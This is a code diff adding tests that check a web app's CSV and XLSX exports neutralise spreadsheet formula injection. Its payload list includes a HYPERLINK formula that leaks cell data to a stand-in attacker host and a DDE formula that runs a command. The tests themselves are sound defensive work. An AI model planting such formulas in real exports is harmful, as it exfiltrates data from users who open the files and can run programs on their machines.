@@ -508,3 +508,75 @@ async def _one_of_each(resources: dict) -> dict:
             if row:
                 ids[name] = row["id"]
     return ids
+
+
+# -- formula injection in exports -----------------------------------------------------------------
+
+# A leading tab or CR is trimmed from a title as it is typed; the helper's own test covers those.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"点击查看")', "+1+1 公式", "-2+3 公式", "@SUM(1) 公式",
+            "=cmd|' /C calc'!A0 公式"]
+
+
+def _xlsx_rows(content: bytes) -> list[list]:
+    """Every row of each sheet, as openpyxl cells read back from the file."""
+    import io
+
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(content))
+    return [list(row) for sheet in book.worksheets for row in sheet.iter_rows()]
+
+
+def test_the_export_cell_helper_neutralises_formulas_and_keeps_numbers():
+    import io
+
+    from openpyxl import Workbook
+
+    from core.export_cells import csv_value, xlsx_row
+
+    assert [csv_value(v) for v in ("=1+1", "+1", "-1", "@A1", "\t1", "\r1", "a=1", "", None, -5, -2.5, 0)] == [
+        "'=1+1", "'+1", "'-1", "'@A1", "'\t1", "'\r1", "a=1", "", None, -5, -2.5, 0]
+    book = Workbook(write_only=True)
+    sheet = book.create_sheet("s")
+    sheet.append(xlsx_row(sheet, ["=1+1", "-1", "\x01=2+2", "\t=3", "\r=4", "plain", -5, -2.5]))
+    buf = io.BytesIO()
+    book.save(buf)
+    cells = _xlsx_rows(buf.getvalue())[0]
+    assert [c.value for c in cells] == ["=1+1", "-1", "=2+2", "\t=3", "\n=4", "plain", -5, -2.5]  # XML reads CR as LF
+    assert [c.data_type for c in cells] == ["s"] * 6 + ["n", "n"]
+
+
+async def test_exports_write_formula_like_text_as_text(app, tenant):
+    company = await browser(app, "company")
+    for title in FORMULAS:
+        await submit(company, title, "导出公式注入测试")
+    dispatcher = await browser(app, "dispatcher")
+    xlsx = await dispatcher.client.get(f"{T}/exports/cases.xlsx", params={"q": "公式"})
+    assert xlsx.status_code == 200
+    rows = [r for r in _xlsx_rows(xlsx.content)[1:] if r[1].value in FORMULAS]
+    assert sorted(r[1].value for r in rows) == sorted(FORMULAS)
+    for row in rows:
+        assert row[1].data_type == "s", row[1].value  # a formula cell reads back as "f"
+        assert isinstance(row[10].value, int) and row[10].data_type == "n"  # "refused": a number stays one
+    csv = await dispatcher.client.get(f"{T}/exports/cases.csv", params={"q": "公式"})
+    import csv as csv_module
+    import io
+
+    lines = list(csv_module.reader(io.StringIO(csv.content.decode("utf-8-sig"), newline="")))
+    titles = [line[1] for line in lines[1:]]
+    assert sorted(titles) == sorted("'" + t for t in FORMULAS)
+    assert all(line[10] == "0" for line in lines[1:])
+    # Mediation's docket export: the creditor and title are typed by the court.
+    court = await browser(app, "mediation_court")
+    async with in_tenant(SLUG):
+        code = (await scoped(Company).select(Company.credit_code).first())["credit_code"]
+    created = await court.post(f"{T}/mediation/disputes", {"debtor": code, "creditor": FORMULAS[0],
+                                                            "principal": "-12.5"})
+    if created.status_code != 303:  # a negative amount is refused; the creditor is what matters here
+        created = await court.post(f"{T}/mediation/disputes", {"debtor": code, "creditor": FORMULAS[0],
+                                                                "principal": "12.5"})
+    assert created.status_code == 303, created.text[:300]
+    export = await court.client.get(f"{T}/mediation/export.xlsx")
+    cells = [c for row in _xlsx_rows(export.content) for c in row if c.value == FORMULAS[0]]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert not [c for row in _xlsx_rows(export.content) for c in row if c.data_type == "f"]
